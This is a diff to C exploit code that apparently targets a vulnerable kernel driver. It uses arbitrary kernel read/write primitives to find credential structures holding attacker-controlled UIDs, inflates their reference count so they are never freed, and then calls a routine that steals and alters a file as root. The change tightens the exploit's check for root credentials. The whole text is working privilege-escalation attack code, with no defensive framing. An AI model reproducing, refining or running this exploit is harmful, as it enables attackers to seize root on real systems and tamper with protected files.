@@ -64,11 +64,17 @@ static void drop_a_reference(u64 usage)
 		exit(EXIT_OUT_OF_REACH);
 }
 
-/* Asked of the driver: system calls look at more than these words. */
-static bool is_root(u64 usage, u64 uid)
+/*
+ * Of a program that is set-user-ID root? Asked of the driver: system calls
+ * follow pointers, and there may be none.
+ */
+static bool is_root(u64 uid)
 {
-	return (int64_t)vuln_read(usage) > 0 &&
-	       vuln_read(uid + 2 * sizeof(u64)) == (u64)ATTACKER_UID << 32;
+	const u64 user = (u64)ATTACKER_UID << 32 | ATTACKER_UID;
+	const u64 root = (u64)ATTACKER_UID << 32;
+
+	return vuln_read(uid) == user && vuln_read(uid + sizeof(u64)) == root &&
+	       vuln_read(uid + 2 * sizeof(u64)) == root;
 }
 
 static noreturn void be_a_candidate(const char *prize)
@@ -80,11 +86,10 @@ static noreturn void be_a_candidate(const char *prize)
 	setsid();
 	drop_a_reference(creds.usage);
 	for (i = 0; i < ROUNDS * 10; i++, nap(20)) {
-		/* The count may be elsewhere, with a pointer to it. */
-		creds = vuln_creds();
-		if (!is_root(creds.usage, uid))
+		if (!is_root(uid))
 			continue;
-		/* Let nobody free them when they go away. */
+		/* The count may be elsewhere. Let it never become zero. */
+		creds = vuln_creds();
 		vuln_write(creds.usage, vuln_read(creds.usage) + 1000);
 		steal_and_alter_as_root(prize);
 		_exit(0);
